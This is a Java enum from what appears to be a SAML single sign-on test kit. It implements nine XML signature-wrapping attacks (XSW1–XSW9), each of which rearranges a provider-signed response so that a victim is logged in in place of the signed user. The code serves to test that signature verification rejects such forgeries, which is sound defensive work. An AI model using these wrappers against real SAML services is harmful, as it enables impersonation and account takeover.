package io.crmkit.testkit.sso.saml;

import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The wrapping of signatures by which an attacker has somebody else logged in with a response that a provider did
 * sign (Somorovsky et al., On Breaking SAML, 2012; the numbers are those of the tools that try them). What was signed
 * is still there and its digest still fits; what is read should be the attacker's. Made of a response of {@link
 * FakeSamlProvider}, which signed what each needs: {@link #XSW1} and {@link #XSW2} the response, all others the
 * assertion alone.
 */
public enum SamlAttack {

  /** The response of the attacker, and in its signature, at the end, the signed one. */
  XSW1 {
    @Override
    String wrap(Parts parts) {
      return parts.evilResponse.replace(parts.mark,
          parts.signature.replace("</ds:Signature>", parts.bareResponse + "</ds:Signature>"));
    }
  },
  /** The response of the attacker, and in it, before the signature, the signed one. */
  XSW2 {
    @Override
    String wrap(Parts parts) {
      return parts.evilResponse.replace(parts.mark, parts.bareResponse + parts.signature);
    }
  },
  /** The assertion of the attacker before the signed one. */
  XSW3 {
    @Override
    String wrap(Parts parts) {
      return parts.with(parts.evil("") + parts.assertion);
    }
  },
  /** The signed assertion inside the attacker's. */
  XSW4 {
    @Override
    String wrap(Parts parts) {
      return parts.with(parts.evil("").replace("</saml2:Assertion>", parts.assertion + "</saml2:Assertion>"));
    }
  },
  /** The assertion of the attacker has the signature, and the signed one stands behind it without. */
  XSW5 {
    @Override
    String wrap(Parts parts) {
      return parts.with(parts.evil(parts.signature) + parts.bareAssertion);
    }
  },
  /** The assertion of the attacker has the signature, and in that is the signed one. */
  XSW6 {
    @Override
    String wrap(Parts parts) {
      return parts.with(parts.evil(
          parts.signature.replace("</ds:Signature>", parts.bareAssertion + "</ds:Signature>")));
    }
  },
  /** The assertion of the attacker in extensions, before the signed one. */
  XSW7 {
    @Override
    String wrap(Parts parts) {
      return parts.withExtensions(parts.evil(""));
    }
  },
  /** The assertion of the attacker has the signature, and in an object of that is the signed one. */
  XSW8 {
    @Override
    String wrap(Parts parts) {
      return parts.with(parts.evil(parts.signature.replace(
          "</ds:Signature>", "<ds:Object>" + parts.bareAssertion + "</ds:Object></ds:Signature>")));
    }
  },
  /** The signed assertion in extensions, and the attacker's in its place. */
  XSW9 {
    @Override
    String wrap(Parts parts) {
      return parts.withExtensions(parts.assertion).replaceFirst(
          "(?s)(</saml2p:Extensions>.*)<saml2:Assertion .*</saml2:Assertion>", "$1" + Matcher.quoteReplacement(parts.evil("")));
    }
  };

  private static final Pattern RESPONSE = Pattern.compile("<saml2p:Response .*</saml2p:Response>", Pattern.DOTALL);
  private static final Pattern ASSERTION = Pattern.compile("<saml2:Assertion .*</saml2:Assertion>", Pattern.DOTALL);
  private static final Pattern SIGNATURE = Pattern.compile("<ds:Signature .*?</ds:Signature>", Pattern.DOTALL);

  abstract String wrap(Parts parts);

  /** Whether it is the response that has to be signed. */
  boolean needsSignedResponse() {
    return this == XSW1 || this == XSW2;
  }

  /**
   * Returns the attacked response.
   *
   * @param signed as the provider wrote it
   * @param name whom it is about
   * @param victim who is to be logged in instead
   */
  String apply(String signed, String name, String victim) {
    return wrap(new Parts(signed, name, victim));
  }

  /** What an attack puts together anew. */
  private static final class Parts {

    private final String xml;
    private final String name;
    private final String victim;
    /** Where the signature stood in what it covered. */
    final String mark = "<!--signature-->";
    final String signature;
    final String assertion;
    final String bareAssertion;
    final String bareResponse;
    final String evilResponse;

    Parts(String xml, String name, String victim) {
      this.xml = xml;
      this.name = name;
      this.victim = victim;
      this.signature = find(SIGNATURE, xml);
      this.assertion = find(ASSERTION, xml);
      this.bareAssertion = assertion.replace(signature, "");
      this.bareResponse = find(RESPONSE, xml).replace(signature, "");
      this.evilResponse = renamed(find(RESPONSE, xml).replace(signature, mark));
    }

    /** Returns the attacker's assertion with a signature, or with none. */
    String evil(String with) {
      return renamed(bareAssertion).replaceFirst("</saml2:Issuer>", Matcher.quoteReplacement("</saml2:Issuer>" + with));
    }

    String with(String instead) {
      return xml.replace(assertion, instead);
    }

    String withExtensions(String extension) {
      return xml.replaceFirst("<saml2p:Status>", Matcher.quoteReplacement(
          "<saml2p:Extensions>" + extension + "</saml2p:Extensions><saml2p:Status>"));
    }

    private String renamed(String part) {
      return part.replace(name, victim).replaceAll(" ID=\"_", " ID=\"_evil");
    }

    private static String find(Pattern pattern, String xml) {
      Matcher found = pattern.matcher(xml);
      if (!found.find()) {
        throw new IllegalArgumentException("the response has no " + pattern.pattern().substring(0, 16));
      }
      return found.group();
    }
  }
}
